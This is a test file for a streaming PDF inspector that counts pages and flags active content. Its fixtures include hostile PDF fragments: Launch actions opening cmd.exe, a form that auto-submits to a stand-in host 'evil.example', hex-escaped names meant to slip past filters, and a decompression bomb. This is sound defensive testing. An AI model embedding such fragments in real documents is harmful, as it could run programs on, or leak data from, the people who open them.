import { createHash, randomBytes } from 'node:crypto';
import { PassThrough, Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { pipeline } from 'node:stream/promises';
import { constants, deflateSync } from 'node:zlib';
import type { PdfInspection } from './pdf-findings';
import { inspectPdf, PdfNotReadToEndError } from './pdf-inspector';
import { inspect } from './testing/inspect';
import { catalog, objectStream, page, pageTree, pdf as pdfOf, stream } from './testing/pdf-files';

const pdf = (...objects: (string | Buffer)[]) => pdfOf(objects);

const nothingActive = (pages: number): PdfInspection => ({ pages, activeContent: [], encryption: 'none' });

describe('inspecting a PDF as it streams by', () => {
  describe('counting pages', () => {
    it('counts the Page objects and not the page tree', async () => {
      await expect(inspect(pdf(catalog(), pageTree(3), page(), page(), page()))).resolves.toEqual(nothingActive(3));
    });

    it('counts a page written without spaces', async () => {
      await expect(inspect(pdf(catalog(), '<</Type/Pages/Count 1>>', '<</Type/Page/Parent 2 0 R>>'))).resolves.toEqual(nothingActive(1));
    });

    it('counts pages kept in a compressed object stream', async () => {
      const file = pdf(catalog(), objectStream([pageTree(2), page(), page()], { filter: '/FlateDecode' }));

      await expect(inspect(file)).resolves.toEqual(nothingActive(2));
    });
  });

  describe('finding active content', () => {
    it.each([
      ['a JavaScript action', '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>', ['JavaScript', 'JS', 'OpenAction']],
      ['a launch action', '/AA << /O << /S /Launch /F (cmd.exe) >> >>', ['Launch', 'AA']],
      ['embedded files', '/Names << /EmbeddedFiles 9 0 R >>', ['EmbeddedFile']],
      ['rich media', '/Annots [<< /Subtype /RichMedia >>]', ['RichMedia']],
      ['a form that submits itself', '/AcroForm << /Fields [] >> /AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>', ['AA', 'SubmitForm']],
      ['an XFA form', '/AcroForm << /XFA 9 0 R >>', ['XFA']],
    ])('flags %s', async (_case, entries, expected) => {
      await expect(inspect(pdf(catalog(entries), pageTree(1), page()))).resolves.toEqual({ pages: 1, activeContent: expected, encryption: 'none' });
    });

    it.each([
      ['/J#61vaScript', 'JavaScript'],
      ['/#4A#53', 'JS'],
      ['/L#61#75#6e#63#68', 'Launch'],
      ['/#45mbeddedFile', 'EmbeddedFile'],
    ])('flags the hex-escaped name %s', async (spelt, found) => {
      const file = pdf(catalog(`/Names << ${spelt} 9 0 R >>`), pageTree(1), page());

      await expect(inspect(file)).resolves.toMatchObject({ activeContent: [found] });
    });

    it('does not flag an open action that only sets the first view', async () => {
      await expect(inspect(pdf(catalog('/OpenAction [3 0 R /FitH null]'), pageTree(1), page()))).resolves.toEqual(nothingActive(1));
    });

    it('finds a script kept in a compressed object stream', async () => {
      const file = pdf(catalog('/OpenAction 100 0 R'), pageTree(1), page(), objectStream(['<< /S /JavaScript /JS (this.exportDataObject()) >>'], { filter: '/FlateDecode' }));

      await expect(inspect(file)).resolves.toEqual({ pages: 1, activeContent: ['JavaScript', 'JS', 'OpenAction'], encryption: 'none' });
    });

    it('finds a script in an object stream stored as is', async () => {
      const file = pdf(catalog(), pageTree(1), page(), objectStream(['<< /S /Launch /F (calc) >>']));

      await expect(inspect(file)).resolves.toMatchObject({ activeContent: ['Launch'] });
    });

    it('finds a script in an object stream whose length is stated elsewhere', async () => {
      const file = pdf(catalog(), pageTree(1), page(), objectStream(['<< /S /JavaScript >>'], { filter: '/FlateDecode', length: 'indirect' }), page());

      await expect(inspect(file)).resolves.toEqual({ pages: 2, activeContent: ['JavaScript'], encryption: 'none' });
    });

    it.each([
      ['encoded with a filter it does not decode', { filter: '/ASCIIHexDecode' }],
      ['encoded with a predictor', { filter: '/FlateDecode', extra: '/DecodeParms << /Predictor 12 /Columns 5 >>' }],
      ['encoded with a chain of filters', { filter: '[/ASCII85Decode /FlateDecode]' }],
    ])('flags an object stream %s, whose objects it could not see', async (_case, encoding) => {
      const file = pdf(catalog(), pageTree(1), page(), objectStream(['<< /Producer (a scanner) >>'], encoding));

      await expect(inspect(file)).resolves.toEqual({ pages: 1, activeContent: ['UnreadableObjectStream'], encryption: 'none' });
    });

    it('flags a compressed object stream that is cut short', async () => {
      const data = deflateSync(Buffer.from('100 0 << /Producer (a scanner) /Title (a deed) >>'));
      const file = pdf(catalog(), pageTree(1), page(), stream('/Type /ObjStm /N 1 /First 6 /Filter /FlateDecode', data.subarray(0, data.length - 6)));

      await expect(inspect(file)).resolves.toEqual({ pages: 1, activeContent: ['UnreadableObjectStream'], encryption: 'none' });
    });

    it('stops decoding an object stream that inflates without end, and flags it', async () => {
      const bomb = deflateSync(Buffer.alloc(40 * 1024 * 1024, 0x20), { strategy: constants.Z_RLE });
      const file = pdf(catalog(), pageTree(1), page(), stream('/Type /ObjStm /N 1 /First 0 /Filter /FlateDecode', bomb));

      expect(file.length).toBeLessThan(200 * 1024);
      await expect(inspect(file)).resolves.toEqual({ pages: 1, activeContent: ['UnreadableObjectStream'], encryption: 'none' });
    });
  });

  describe('stream data that is not PDF syntax', () => {
    it('does not take short names in page contents or images for active content', async () => {
      const contents = Buffer.from('BT /JS 12 Tf /AA gs 72 720 Td (Hello) Tj ET');
      const image = Buffer.concat([randomBytes(4000), Buffer.from('/JS /AA /XFA'), randomBytes(4000)]);
      const file = pdf(catalog(), pageTree(1), page('/Contents 4 0 R'), stream('', contents), stream('/Type /XObject /Subtype /Image /Filter /DCTDecode', image));

      await expect(inspect(file)).resolves.toEqual(nothingActive(1));
    });

    it('still finds a long active name hidden in stream data, where a reader might be sent by the cross-reference table', async () => {
      const image = Buffer.concat([randomBytes(4000), Buffer.from('9 0 obj << /S /JavaScript /JS (x) >> endobj'), randomBytes(4000)]);
      const file = pdf(catalog(), pageTree(1), page(), stream('/Subtype /Image /Filter /DCTDecode', image));

      await expect(inspect(file)).resolves.toMatchObject({ activeContent: ['JavaScript'] });
    });

    it('does not count pages inside stream data', async () => {
      const file = pdf(catalog(), pageTree(1), page(), stream('', Buffer.from('/Type /Page')));

      await expect(inspect(file)).resolves.toEqual(nothingActive(1));
    });
  });

  describe('reading in chunks', () => {
    const risky = pdf(
      catalog('/OpenAction 100 0 R /Names << /J#61vaScript 5 0 R >>'),
      pageTree(2),
      page(),
      page(),
      objectStream(['<< /S /Launch /F (x) >>', page()], { filter: '/FlateDecode' }),
      stream('/Subtype /Image', Buffer.from('/AA /JS')),
    );
    const expected: PdfInspection = { pages: 3, activeContent: ['JavaScript', 'Launch', 'OpenAction'], encryption: 'none' };

    it('gives the same answer whatever the chunk size, down to one byte', async () => {
      for (const size of [1, 2, 3, 7, 64, 1000]) {
        await expect(inspect(risky, size)).resolves.toEqual(expected);
      }
    });

    it('gives the same answer wherever the file is split in two', async () => {
      for (let split = 1; split < risky.length; split += 1) {
        const inspector = inspectPdf();
        await pipeline(Readable.from([risky.subarray(0, split), risky.subarray(split)]), inspector, new PassThrough().resume());
        expect(await inspector.result).toEqual(expected);
      }
    });
  });

  describe('as a pass-through', () => {
    it('passes every byte on unchanged', async () => {
      const file = Buffer.concat([pdf(catalog(), pageTree(1), page()), randomBytes(300_000)]);
      const inspector = inspectPdf();

      const [passed] = await Promise.all([buffer(inspector), pipeline(Readable.from([file.subarray(0, 1000), file.subarray(1000)]), inspector)]);

      expect(createHash('sha256').update(passed).digest('hex')).toBe(createHash('sha256').update(file).digest('hex'));
    });

    it('streams a large file without holding it, and finds nothing in plain filler', async () => {
      const size = 64 * 1024 * 1024;
      const chunk = Buffer.alloc(256 * 1024, 0x42);
      let sent = 0;
      const source = new Readable({
        read() {
          if (sent >= size) this.push(null);
          else this.push(sent === 0 ? Buffer.concat([Buffer.from('%PDF-1.7\n'), chunk]) : chunk);
          sent += chunk.length;
        },
      });
      const inspector = inspectPdf();
      let peakBuffered = 0;
      const sink = new PassThrough();
      sink.on('data', () => {
        peakBuffered = Math.max(peakBuffered, inspector.readableLength + inspector.writableLength);
      });

      await pipeline(source, inspector, sink);

      await expect(inspector.result).resolves.toEqual(nothingActive(0));
      expect(peakBuffered).toBeLessThanOrEqual(4 * chunk.length);
    });

    it('rejects its result when the upload fails before the end', async () => {
      const inspector = inspectPdf();
      const source = new PassThrough();
      const piping = pipeline(source, inspector, new PassThrough().resume());
      source.write(pdf(catalog()).subarray(0, 40));
      source.destroy(new Error('the upload was cut off'));

      await expect(piping).rejects.toThrow('the upload was cut off');
      await expect(inspector.result).rejects.toBeInstanceOf(PdfNotReadToEndError);
    });
  });
});
